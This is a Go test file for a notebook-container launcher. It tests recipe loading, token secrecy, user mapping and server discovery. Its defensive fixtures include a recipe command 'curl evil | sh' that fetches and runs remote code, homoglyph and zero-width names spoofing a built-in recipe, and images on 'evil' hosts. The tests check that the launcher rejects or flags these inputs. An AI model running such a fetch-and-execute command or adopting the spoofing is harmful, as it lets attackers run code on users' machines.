package notebook

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"slipway/assets"
	"slipway/engine"
	"slipway/engine/model"
	"slipway/engine/runspec"
	"slipway/engine/words"

	"github.com/google/go-cmp/cmp"
)

func TestBuiltinRecipes(t *testing.T) {
	recipes, problems := Load(assets.Recipes, nil, "en")
	if len(problems) > 0 || len(recipes) != 11 || recipes[0].ID != "scipy" {
		t.Fatalf("%d recipes, problems %v", len(recipes), problems)
	}
	for _, r := range recipes {
		if _, err := engine.ParseImage(r.Reference()); err != nil {
			t.Errorf("%s: %v", r.ID, err)
		}
		if r.About == "" || r.Own || len(r.Platforms) == 0 {
			t.Errorf("%+v", r)
		}
		s := Launch{
			Recipe: r, Image: r.Reference(), Folder: "/home/me/x", Name: "x", HostPort: 9, Token: "hush-hush",
			Host: Host{UID: 1234, GID: 5678},
		}.Spec()
		if line := s.RunCommand().
			String(); strings.Contains(line, "hush-hush") || !strings.Contains(line, "-p 127.0.0.1:9:") {
			t.Errorf("%s: %s", r.ID, line)
		}
		secret := strings.Contains(s.RunCommand().WithSecrets(), "hush-hush")
		if secret != (r.SignIn.Method != SignInNone) {
			t.Errorf("%s: its token is in the command: %v", r.ID, secret)
		}
	}
}

const good = `name: Mine
about: x
image: example.org/me/nb
tags: [latest]
port: 8888
mount: /work
sign-in: {method: token-env, env: JUPYTER_TOKEN}
ready: api
user: jupyter
`

func TestOwnRecipes(t *testing.T) {
	own := fstest.MapFS{
		"mine.yaml":  {Data: []byte(good)},
		"scipy.yaml": {Data: []byte(good)},
		"bad.yaml":   {Data: []byte(strings.Replace(good, "mount: /work", "mount: work", 1))},
		"notes.txt":  {Data: []byte("x")},
	}
	recipes, problems := Load(assets.Recipes, own, "en")
	if len(recipes) != 12 || len(problems) != 1 {
		t.Fatalf("%d recipes, problems %v", len(recipes), problems)
	}
	if p := problems[0]; !strings.Contains(words.Of(p.What).String(), "bad.yaml") ||
		!strings.HasPrefix(words.Of(p.Why).String(), "Line 6: mount") {
		t.Errorf("%+v", p)
	}
	for _, r := range recipes {
		if own := r.ID == "mine" || r.ID == "scipy"; r.Own != own {
			t.Errorf("%s: own %v", r.ID, r.Own)
		}
	}
}

// TestTranslations takes what a recipe says from the file beside it, and all else from the recipe.
func TestTranslations(t *testing.T) {
	wrong := fstest.MapFS{
		"mine.yaml": {Data: []byte(good)}, "mine.pt-BR.yaml": {Data: []byte("image: evil.example/x\n")},
		"my.lab.yaml": {Data: []byte(good)}, "hidden.yaml": {Data: []byte(good)},
		"hidden.pt-BR.yaml": {Data: []byte("name: \"a\\u200bb\"\n")},
	}
	english, _ := Load(assets.Recipes, nil, "en")
	recipes, problems := Load(assets.Recipes, wrong, "pt-BR")
	if len(recipes) != len(english)+3 || len(problems) != 2 {
		t.Fatalf("%d recipes, %v", len(recipes), problems)
	}
	said := map[string]Recipe{}
	for _, r := range recipes {
		said[r.ID] = r
	}
	for _, r := range english {
		other := said[r.ID]
		if other.About == r.About || (r.Notes == "") != (other.Notes == "") || other.Notes != "" && other.Notes == r.Notes {
			t.Errorf("%s is not translated: %q %q", r.ID, other.About, other.Notes)
		}
		other.Name, other.About, other.Notes = r.Name, r.About, r.Notes
		if diff := cmp.Diff(r, other); diff != "" {
			t.Errorf("a translation changes more than words: %s", diff)
		}
	}
	for _, id := range []string{"mine", "my.lab", "hidden"} {
		if r := said[id]; r.Name != "Mine" || r.Image != "example.org/me/nb" {
			t.Errorf("%s: %+v", id, r)
		}
	}
}

func TestParseRecipeErrors(t *testing.T) {
	for change, want := range map[[2]string]string{
		{"name: Mine\n", ""}:                                            "Line 1: a name is missing",
		{"port: 8888", "port: 88888"}:                                   "line 5:",
		{"port: 8888", "prot: 8888"}:                                    "line 5: field prot not found",
		{"image: example.org/me/nb", "image: x:1"}:                      "Line 3: image must be",
		{"tags: [latest]", "tags: []"}:                                  "Line 4: tags",
		{"token-env", "magic"}:                                          "Line 7: sign-in: method",
		{"ready: api", "ready: api\ncommand: [x, \"--token={token}\"]"}: "command contains the token",
		{"ready: api", "ready: http://evil/"}:                           "Line 8: ready",
		{"user: jupyter", "user: me"}:                                   "Line 9: user",
		{"name: Mine", "name: [a"}:                                      "line 1:",
	} {
		_, err := ParseRecipe([]byte(strings.Replace(good, change[0], change[1], 1)))
		if err == nil || !strings.Contains(words.Error(err).String(), want) {
			t.Errorf("%q: %v, want %s", change[1], err, want)
		}
	}
}

func FuzzParseRecipe(f *testing.F) {
	f.Add(good)
	f.Add("a: [b")
	f.Fuzz(func(t *testing.T, text string) {
		r, err := ParseRecipe([]byte(text))
		if err == nil && (r.Name == "" || r.Port == 0 || r.Reference() == "") {
			t.Errorf("taken: %+v", r)
		}
	})
}

func TestUsers(t *testing.T) {
	jupyterRecipe := Recipe{ID: "j", Mount: "/w", Port: 1, Tags: []string{"t"}, User: UserJupyter}
	type result struct {
		User, UserNS string
		Groups       []string
		Env          []string
	}
	for name, c := range map[string]struct {
		host Host
		how  string
		want result
	}{
		"1000":    {Host{UID: 1000, GID: 1000}, UserJupyter, result{}},
		"another": {Host{UID: 501, GID: 20}, UserJupyter, result{User: "501", Groups: []string{"users"}}},
		"root": {
			Host{UID: 0},
			UserJupyter,
			result{User: "root", Env: []string{"NB_USER=root", "NB_UID=0", "NB_GID=0", "NOTEBOOK_ARGS=--allow-root"}},
		},
		"rootless": {
			Host{UID: 1000, Engine: model.EngineInfo{Rootless: true}},
			UserJupyter,
			result{User: "root", Env: []string{"NB_USER=root", "NB_UID=0", "NB_GID=0", "NOTEBOOK_ARGS=--allow-root"}},
		},
		"rootless podman": {
			Host{UID: 1000, Engine: model.EngineInfo{Rootless: true, Product: "Podman"}},
			UserJupyter,
			result{UserNS: "keep-id:uid=1000,gid=100"},
		},
		"remapped": {
			Host{UID: 1000, Engine: model.EngineInfo{UserNSRemap: true}},
			UserJupyter,
			result{UserNS: "host"},
		},
		"virtual machine": {Host{UID: 501, Locality: model.VirtualMachine}, UserJupyter, result{}},
		"no IDs":          {Host{UID: -1, GID: -1}, UserJupyter, result{}},
		"rocker":          {Host{UID: 501, GID: 20}, UserRocker, result{Env: []string{"USERID=501", "GROUPID=20"}}},
		"IDs":             {Host{UID: 501, GID: 20}, UserIDs, result{User: "501:20"}},
		"image":           {Host{UID: 501, GID: 20}, UserImage, result{}},
	} {
		r := jupyterRecipe
		r.User = c.how
		s := Launch{Recipe: r, Host: c.host}.Spec()
		got := result{User: s.User, UserNS: s.UserNS, Groups: s.GroupAdd}
		for _, e := range s.Env {
			got.Env = append(got.Env, e.Name+"="+e.Value)
		}
		if diff := cmp.Diff(c.want, got); diff != "" {
			t.Errorf("%s: %s", name, diff)
		}
	}
}

func TestContainerName(t *testing.T) {
	taken := map[string]bool{"thesis": true, "thesis-2": true}
	for folder, want := range map[string]string{
		"/a/thesis": "thesis-3", "/a/My work (2026)": "My-work-2026",
		"/": "notebook", "/a/ü": "notebook", "/a/Müller": "Muller",
	} {
		if got := ContainerName(folder, taken); got != want {
			t.Errorf("%s: %s, want %s", folder, got, want)
		}
	}
}

// here is where an engine on this computer is.
var here = Place{Locality: model.ThisComputer}

func published(port, host uint16) []model.PublishedPort {
	return []model.PublishedPort{{HostIP: "127.0.0.1", HostPort: host, Container: port, Protocol: "tcp"}}
}

// Servers are found by what the engine says of their containers, and nothing else is taken for one.
func TestServers(t *testing.T) {
	recipes, _ := Load(assets.Recipes, nil, "en")
	for name, c := range map[string]struct {
		container model.Container
		url       string
		known     bool
	}{
		"launched": {model.Container{
			Image: "x", Marks: map[string]string{model.LabelRecipe: "scipy"},
			Env: []string{"JUPYTER_TOKEN=t"}, Ports: published(8888, 1),
		}, "http://127.0.0.1:1/lab?token=t", true},
		"marimo": {
			model.Container{
				Image: "x", Marks: map[string]string{model.LabelRecipe: "marimo"},
				Command: "marimo edit --token-password=t /app", Ports: published(8080, 2),
			},
			"http://127.0.0.1:2/?access_token=t",
			true,
		},
		"by its image": {
			model.Container{Image: "quay.io/jupyter/r-notebook:latest", Ports: published(8888, 3)},
			"http://127.0.0.1:3/lab", false,
		},
		"by its command": {model.Container{
			Image:   "me",
			Command: "tini -- jupyter lab --ServerApp.token=abc --ServerApp.base_url=/x/y --port=9999",
			Ports:   published(9999, 4),
		}, "http://127.0.0.1:4/x/y/lab?token=abc", true},
		"by its args": {model.Container{
			Image: "me", Env: []string{"NOTEBOOK_ARGS=--IdentityProvider.token='abc'"},
			Ports: published(8888, 5),
		}, "http://127.0.0.1:5/lab?token=abc", true},
		"by its token": {model.Container{
			Image: "me", Env: []string{"JUPYTER_TOKEN=e", "JUPYTER_PORT=7000"},
			Ports: published(7000, 6),
		}, "http://127.0.0.1:6/lab?token=e", true},
	} {
		c.container.Inspected = true
		list := Servers([]model.Container{c.container}, recipes, here)
		if len(list) != 1 || list[0].URL() != c.url || list[0].Known != c.known {
			t.Errorf("%s: %+v", name, list)
		}
	}
	inherits := model.Container{Inspected: true, Image: "me", Labels: map[string]string{model.LabelRecipe: "scipy"}}
	others := []model.Container{
		inherits,
		{Inspected: true, Image: "nginx", Ports: published(8888, 9)},
		{Inspected: true, Image: "my-jupyterhub-proxy"},
		{
			Inspected: true, Image: "quay.io/jupyter/r-notebook", Env: []string{"JUPYTER_PORT=8888"},
			Command: "tini -g -- sleep 9", Ports: published(9000, 9),
		},
	}
	if list := Servers(others, recipes, here); len(list) > 0 {
		t.Errorf("taken for servers: %+v", list)
	}
}

// served is a stand-in for a Jupyter server, and what Slipway knows of its container.
func served(t *testing.T, base, token string) Server {
	t.Helper()
	mux := http.NewServeMux()
	mux.HandleFunc(base+"api", func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, `{"version": "2.14.1"}`) })
	mux.HandleFunc(base+"api/status", func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") != "token "+token {
			w.WriteHeader(http.StatusForbidden)
		}
	})
	server := httptest.NewServer(mux)
	t.Cleanup(server.Close)
	u, _ := url.Parse(server.URL)
	port, _ := strconv.ParseUint(u.Port(), 10, 16)
	return serverAt(uint16(port))
}

func serverAt(port uint16) Server {
	s := foreign(model.Container{
		ID: "c", Inspected: true, Image: "jupyter/x", Env: []string{"HOME=/home/me"},
		Ports: published(8888, port),
	}, here)
	s.at = here
	return s
}

// stale has the files of two killed servers and of the one that runs, as the two generations of Jupyter write them.
type stale struct{}

func (stale) SmallFiles(_ context.Context, _, dir string) ([]engine.File, error) {
	if dir != "/home/me/.local/share/jupyter/runtime" {
		return nil, errNone
	}
	now := time.Now()
	return []engine.File{
		{
			Name: "jpserver-7.json", Modified: now.Add(-time.Hour),
			Data: []byte(`{"base_url": "/", "port": 8888, "secure": false, "token": "old"}`),
		},
		{
			Name: "nbserver-8.json", Modified: now,
			Data: []byte(`{"base_url": "/some/where/", "hostname": "0.0.0.0", "port": 8888, "secure": false, "token": "good"}`),
		},
		{Name: "jpserver-9.json", Modified: now.Add(time.Second), Data: []byte(`{"base_url": `)},
		{Name: "kernel-1.json", Modified: now.Add(time.Second), Data: []byte(`{"token": "kernel"}`)},
	}, nil
}

func (stale) Exec(context.Context, string, ...string) (string, int, error) { return "", 127, nil }
func (stale) LastLines(context.Context, string, int) ([]string, error)     { return nil, errNone }

var errNone = net.ErrClosed

func TestLookPassesStaleFiles(t *testing.T) {
	s := served(t, "/some/where/", "good")
	found := Look(t.Context(), stale{}, s)
	if !found.Known || !strings.HasSuffix(found.URL(), "/some/where/tree?token=good") {
		t.Errorf("%+v", found)
	}
	if found := Look(t.Context(), stale{}, served(t, "/", "nobody knows")); found.Known {
		t.Errorf("found %q", found.Token)
	}
}

// secure has the file of a server with a certificate of its own.
type secure struct{ stale }

func (secure) SmallFiles(context.Context, string, string) ([]engine.File, error) {
	return []engine.File{{
		Name: "jpserver-7.json",
		Data: []byte(`{"base_url": "/", "port": 8888, "secure": true, "token": "good"}`),
	}}, nil
}

func TestLookHTTPS(t *testing.T) {
	mux := http.NewServeMux()
	mux.HandleFunc("/api", func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, `{"version": "2.14.1"}`) })
	mux.HandleFunc("/api/status", func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") != "token good" {
			w.WriteHeader(http.StatusForbidden)
		}
	})
	server := httptest.NewTLSServer(mux)
	server.Config.ErrorLog = log.New(io.Discard, "", 0) // it is asked without a certificate first
	defer server.Close()
	u, _ := url.Parse(server.URL)
	port, _ := strconv.ParseUint(u.Port(), 10, 16)
	found := Look(t.Context(), secure{}, serverAt(uint16(port)))
	if want := fmt.Sprintf("https://127.0.0.1:%d/lab?token=good", port); !found.Known || found.URL() != want {
		t.Errorf("%s, want %s", found.URL(), want)
	}
}

func TestAsk(t *testing.T) {
	s := served(t, "/", "good")
	s.Token = "good"
	if got := Ask(t.Context(), s); got != Up {
		t.Errorf("the right token: %s", got)
	}
	s.Token = "bad"
	if got := Ask(t.Context(), s); got != Refused {
		t.Errorf("a wrong token: %s", got)
	}
	if answer, err := Wait(t.Context(), s, time.Minute); answer != Refused || err != nil {
		t.Errorf("waiting with a wrong token: %s %v", answer, err)
	}
	other := httptest.NewServer(http.NotFoundHandler())
	defer other.Close()
	u, _ := url.Parse(other.URL)
	port, _ := strconv.ParseUint(u.Port(), 10, 16)
	if got := Ask(t.Context(), serverAt(uint16(port))); got != Other {
		t.Errorf("another server: %s", got)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	silent := uint16(l.Addr().(*net.TCPAddr).Port)
	l.Close()
	if answer, err := Wait(t.Context(), serverAt(silent), 250*time.Millisecond); answer != NotYet ||
		!errors.Is(err, ErrNotUp) {
		t.Errorf("nobody: %s %v", answer, err)
	}
}

// TestNoTokenInACommand holds that no recipe puts its token where every user of the computer reads it.
func TestNoTokenInACommand(t *testing.T) {
	recipes, problems := Load(assets.Recipes, nil, "en")
	if len(problems) > 0 || len(recipes) < 8 {
		t.Fatal(recipes, problems)
	}
	for _, r := range recipes {
		l := Launch{
			Recipe: r, Image: r.Reference(), Folder: "/a", Name: "n", HostPort: 1, Token: NewToken(),
			Host: Host{UID: 1000, GID: 1000},
		}
		s := l.Spec()
		if strings.Contains(strings.Join(append(s.Command, s.Entrypoint...), " "), l.Token) {
			t.Errorf("%s: %q", r.ID, s.Command)
		}
		hidden := slices.ContainsFunc(s.Env, func(e runspec.Env) bool { return e.Value == l.Token && e.Secret })
		if hidden == (r.SignIn.Method == SignInNone) || strings.Contains(s.RunCommand().String(), l.Token) {
			t.Errorf("%s: %s", r.ID, s.RunCommand())
		}
	}
}

// TestForeignRecipes has recipes that somebody else put into the user's folder.
func TestForeignRecipes(t *testing.T) {
	own := func(name, image string) *fstest.MapFile {
		return &fstest.MapFile{Data: []byte(strings.NewReplacer("name: Mine", "name: "+name, "image: example.org/me/nb",
			"image: "+image).Replace(good))}
	}
	minimal, err := assets.Recipes.ReadFile("recipes/minimal.yaml")
	if err != nil {
		t.Fatal(err)
	}
	rRecipe, err := assets.Recipes.ReadFile("recipes/r.yaml")
	if err != nil {
		t.Fatal(err)
	}
	recipes, problems := Load(assets.Recipes, fstest.MapFS{
		"scipy.yaml": own("Scientific Python", "ghcr.io/evil/x"), "mine.yaml": own("Mine", "example.org/me/nb"),
		"like.yaml":    own("scientific python", "ghcr.io/evil/y"),
		"minimal.yaml": {Data: minimal},
		"r.yaml": {Data: bytes.Replace(rRecipe, []byte("port:"), []byte("command: [sh, -c, 'curl evil | sh']\nport:"),
			1)},
		"zz.yaml":       own("\"Scientific  Python\"", "ghcr.io/evil/a"),
		"hyphen.yaml":   own("\"Scientific\\u2010Python\"", "ghcr.io/evil/b"),
		"cyrillic.yaml": own("\"S\\u0441ientific Python\"", "ghcr.io/evil/c"),
		"wide.yaml":     own("\"\\uff33cientific Python\"", "ghcr.io/evil/d"),
		"unseen.yaml":   own(`"Scientific\u200b Python"`, "ghcr.io/evil/z"),
		"long.yaml":     own(strings.Repeat("x", 500), "ghcr.io/evil/z"),
	}, "en")
	if len(problems) != 3 {
		t.Errorf("%v", problems)
	}
	want := map[string]string{
		"scipy": "quay.io/jupyter/scipy-notebook", "like": "quay.io/jupyter/scipy-notebook", "mine": "", "minimal": "",
		"r":  "quay.io/jupyter/r-notebook",
		"zz": "quay.io/jupyter/scipy-notebook", "hyphen": "quay.io/jupyter/scipy-notebook",
		"wide": "quay.io/jupyter/scipy-notebook",
	}
	for _, r := range recipes {
		instead, mine := want[r.ID]
		if r.Own != mine || r.Instead != instead {
			t.Errorf("%s: own %v, instead of %q", r.ID, r.Own, r.Instead)
		}
		delete(want, r.ID)
	}
	if len(want) > 0 {
		t.Errorf("missing: %v", want)
	}
}

// TestWithPage opens a Jupyter without JupyterLab on the page that it has.
func TestWithPage(t *testing.T) {
	for pages, want := range map[string]string{"/lab /tree": "/lab", "/tree": "/tree", "": "/"} {
		mux := http.NewServeMux()
		mux.HandleFunc("/api", func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, `{"version": "2.14.1"}`) })
		for _, page := range strings.Fields(pages) {
			mux.HandleFunc(page, func(http.ResponseWriter, *http.Request) {})
		}
		server := httptest.NewServer(mux)
		u, _ := url.Parse(server.URL)
		port, _ := strconv.ParseUint(u.Port(), 10, 16)
		if got := WithPage(t.Context(), serverAt(uint16(port))).URL(); got != server.URL+want {
			t.Errorf("%q: %s", pages, got)
		}
		server.Close()
	}
}

// TestOtherServers are those that a token does not open, or that are on this computer's own network.
func TestOtherServers(t *testing.T) {
	at := func(c model.Container) Server {
		c.Inspected = true
		list := Servers([]model.Container{c}, nil, here)
		if len(list) != 1 {
			t.Fatalf("%+v: %+v", c, list)
		}
		return list[0]
	}
	hubbed := at(model.Container{Image: "x", Argv: []string{"jupyterhub-singleuser"}, Ports: published(8888, 1)})
	if !hubbed.Hubbed || hubbed.Reached() {
		t.Errorf("%+v", hubbed)
	}
	host := at(model.Container{
		Image: "x", Argv: []string{"jupyter", "lab", "--ip=127.0.0.1", "--port=18888"},
		Command: "jupyter lab --ip=127.0.0.1 --port=18888", HostNetwork: true, Env: []string{"JUPYTER_TOKEN=t"},
	})
	// who answers there is not known yet
	if host.URL() != "http://127.0.0.1:18888/lab" || host.Token != "" || host.Known || !host.Local() || host.Wide() {
		t.Errorf("%s %+v", host.URL(), host)
	}
	if wide := at(model.Container{
		Image: "x", Argv: []string{"jupyter", "lab", "--ip=0.0.0.0"},
		Command: "jupyter lab --ip=0.0.0.0", HostNetwork: true,
	}); !wide.Wide() {
		t.Errorf("%+v", wide)
	}
	own := at(model.Container{
		Image: "x", Argv: []string{"jupyter", "lab"},
		Command: "jupyter lab --ServerApp.password=argon2:x --ServerApp.token=", Ports: published(8888, 1),
	})
	if own.SignIn.Method != SignInOwn || own.Open() || own.URL() != "http://127.0.0.1:1/lab" {
		t.Errorf("%+v", own)
	}
	away := Servers([]model.Container{{Inspected: true, Image: "x", Argv: []string{"jupyter", "lab"}, HostNetwork: true}},
		nil, Place{Locality: model.VirtualMachine})
	if len(away) != 1 || away[0].Reached() {
		t.Errorf("%+v", away)
	}
}
